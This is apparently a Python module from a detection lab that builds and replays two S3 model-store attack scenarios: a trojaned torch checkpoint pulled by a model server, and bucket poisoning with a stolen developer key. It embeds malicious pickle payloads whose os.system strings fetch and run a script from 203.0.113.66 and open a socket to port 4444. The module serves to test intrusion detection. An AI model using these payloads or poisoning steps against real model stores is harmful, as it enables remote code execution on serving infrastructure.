"""Scenarios on the model store (S3): a malicious model pulled by a model server, and bucket poisoning with a
stolen developer key.

Captures: requests signed by botocore's SigV4 signer (inspector.lab.traffic_s3) carrying model
files from inspector.lab.traffic_models (pickles are only ever pickled, never loaded). Replays:
boto3 against the target as an S3 endpoint (path-style addressing).
"""

from __future__ import annotations

from inspector.lab import network as net
from inspector.lab.recorder import Lab
from inspector.lab.replay import Replay
from inspector.lab.scenarios.base import Scenario, Step
from inspector.lab.traffic_models import malicious_pickle, torch_zip
from inspector.lab.traffic_s3 import S3Identity, s3_object, s3_ok, s3_request

MALICIOUS_PICKLE = 3200001
UPLOAD_OUTSIDE_PIPELINE = 3200003
FORMAT_DISGUISED = 3200005

PULLED_KEY = "resnet50/v3/model.pt"
POISONED_KEY = "fraud-detector/v7/model.safetensors"


def pulled_model() -> bytes:
    """A torch.save-style zip whose data.pkl reduces to os.system (a trojaned checkpoint)."""
    return torch_zip(malicious_pickle("curl -s http://203.0.113.66/implant.sh | sh"))


def poisoned_model() -> bytes:
    """A pickle named .safetensors: it runs os.system when a loader falls back to torch.load."""
    return malicious_pickle("python3 -c 'import socket,os;s=socket.socket();s.connect((\"203.0.113.66\",4444))'")


def _s3(lab: Lab, client: str, start: float):
    return lab.http(client, net.S3, net.S3_PORT, start=start, think=0.004)


def _get(identity: S3Identity, key: str) -> bytes:
    return s3_request("GET", net.MODELS_BUCKET, key, identity=identity)


# -- malicious model pull ------------------------------------------------------------------------------


def _malicious_pull(lab: Lab, start: float) -> None:
    session = _s3(lab, net.TRITON, start)
    session.exchange(_get(net.SERVING_KEY, "resnet50/v3/config.json"),
                     s3_object(b'{"architecture": "resnet50", "format": "torch"}', content_type="application/json"),
                     event="s3", what=f"GetObject {net.MODELS_BUCKET}/resnet50/v3/config.json")
    session.exchange(_get(net.SERVING_KEY, PULLED_KEY), s3_object(pulled_model()), event="s3", step="pull",
                     what=f"GetObject {net.MODELS_BUCKET}/{PULLED_KEY}: a torch zip whose data.pkl calls os.system")
    session.close()


def _malicious_pull_replay(replay: Replay) -> None:
    staging = replay.s3(net.PIPELINE_KEY.access_key, net.PIPELINE_KEY.secret_key)
    serving = replay.s3(net.SERVING_KEY.access_key, net.SERVING_KEY.secret_key)
    replay.attempt(f"(setup) create bucket {net.MODELS_BUCKET}",
                   lambda: staging.create_bucket(Bucket=net.MODELS_BUCKET))
    replay.attempt(f"(setup) plant {PULLED_KEY}",
                   lambda: staging.put_object(Bucket=net.MODELS_BUCKET, Key=PULLED_KEY, Body=pulled_model()))
    replay.attempt(f"GetObject {PULLED_KEY} with the serving key",
                   lambda: serving.get_object(Bucket=net.MODELS_BUCKET, Key=PULLED_KEY)["Body"].read(), step="pull")


# -- bucket poisoning -----------------------------------------------------------------------------------


def _poisoning(lab: Lab, start: float) -> None:
    upload = _s3(lab, net.ATTACKER, start)
    upload.exchange(s3_request("GET", net.MODELS_BUCKET, "", query="list-type=2&prefix=fraud-detector%2F",
                               identity=net.DEVELOPER_KEY),
                    s3_ok(b'<?xml version="1.0" encoding="UTF-8"?>\n<ListBucketResult><Name>ml-models-prod</Name>'
                          b"<KeyCount>0</KeyCount></ListBucketResult>", content_type="application/xml", seed="list"),
                    event="s3", step="recon", what="ListObjectsV2 fraud-detector/ with a developer's key")
    upload.exchange(s3_request("PUT", net.MODELS_BUCKET, POISONED_KEY, body=poisoned_model(),
                               identity=net.DEVELOPER_KEY),
                    s3_ok(seed="poison"), event="s3", step="upload",
                    what=f"PutObject {POISONED_KEY} (a pickle calling os.system) with a developer's key")
    upload.close()
    pull = _s3(lab, net.TRITON, upload.now + 20.0 * lab.rng.uniform(0.8, 1.2))
    pull.exchange(_get(net.SERVING_KEY, POISONED_KEY), s3_object(poisoned_model()), event="s3", step="victim-pull",
                  what=f"the model server pulls {POISONED_KEY}")
    pull.close()


def _poisoning_replay(replay: Replay) -> None:
    developer = replay.s3(net.DEVELOPER_KEY.access_key, net.DEVELOPER_KEY.secret_key)
    serving = replay.s3(net.SERVING_KEY.access_key, net.SERVING_KEY.secret_key)
    replay.attempt(f"(setup) create bucket {net.MODELS_BUCKET}",
                   lambda: developer.create_bucket(Bucket=net.MODELS_BUCKET))
    replay.attempt("ListObjectsV2 fraud-detector/ with the developer key",
                   lambda: developer.list_objects_v2(Bucket=net.MODELS_BUCKET, Prefix="fraud-detector/"), step="recon")
    replay.attempt(f"PutObject {POISONED_KEY} with the developer key",
                   lambda: developer.put_object(Bucket=net.MODELS_BUCKET, Key=POISONED_KEY, Body=poisoned_model()),
                   step="upload")
    replay.attempt(f"GetObject {POISONED_KEY} with the serving key",
                   lambda: serving.get_object(Bucket=net.MODELS_BUCKET, Key=POISONED_KEY)["Body"].read(),
                   step="victim-pull")


SCENARIOS = (
    Scenario(
        name="malicious-model-pull", title="A trojaned model pulled from the model store",
        description="The Triton host pulls resnet50/v3/model.pt from the production bucket: a torch checkpoint "
                    "whose pickle calls os.system when loaded.",
        atlas=("AML.T0010.003", "AML.T0011.000"),
        steps=(Step(id="pull", description="GetObject of the trojaned checkpoint", sids=(MALICIOUS_PICKLE,)),),
        build=_malicious_pull, replay=_malicious_pull_replay, transports=("http",), span=2),
    Scenario(
        name="bucket-poisoning", title="Model bucket poisoned with a stolen developer key",
        description="From outside, an attacker with a developer's access key overwrites the fraud model with a "
                    "pickle named model.safetensors; twenty seconds later the model server pulls it.",
        atlas=("AML.T0012", "AML.T0018.000", "AML.T0010.003", "AML.T0011.000"),
        steps=(Step(id="recon", description="ListObjectsV2 from outside with the stolen key (a listing is no model "
                    "access: only the segmentation policy sees the flow)", policy=True),
               Step(id="upload", description="PutObject of a disguised malicious pickle by a non-pipeline key",
                    sids=(UPLOAD_OUTSIDE_PIPELINE, FORMAT_DISGUISED, MALICIOUS_PICKLE)),
               Step(id="victim-pull", description="the model server pulls the poisoned file",
                    sids=(FORMAT_DISGUISED, MALICIOUS_PICKLE))),
        build=_poisoning, replay=_poisoning_replay, transports=("http",), span=26),
)
